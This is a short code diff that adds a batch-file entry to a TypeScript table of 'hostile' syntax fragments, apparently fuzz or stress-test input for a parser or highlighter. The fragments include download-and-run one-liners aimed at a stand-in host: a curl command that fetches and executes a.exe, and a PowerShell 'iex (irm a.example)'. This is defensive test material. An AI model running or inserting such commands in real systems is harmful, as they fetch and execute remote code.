@@ -94,6 +94,12 @@ export const HOSTILE_PIECES: Readonly<Record<string, readonly string[]>> = {
     "x = <<~A\n#{\n",
     "a if b ",
   ],
+  "a.bat": [
+    ...EVERYWHERE,
+    ...'%|!|^|%a%|%a:~|%%a|( |if |for %%i in (|set a=%a%%a%\n|set "a=|a|b|>a|call |cmd /c |@echo off\n|curl -o a.exe a.example&a.exe\n'.split(
+      "|",
+    ),
+  ],
   "a.ps1": [
     ...EVERYWHERE,
     ..."@(|@{|$x[|a.b(|[int]|$x=$x+$x\n|$x+='ab'\n|iex |% { |& { |-join |1..9|foreach ($x in 1..9) { |$a=@(1)+$a\n|$x|function f { f }\n|iex (irm a.example)\n".split(
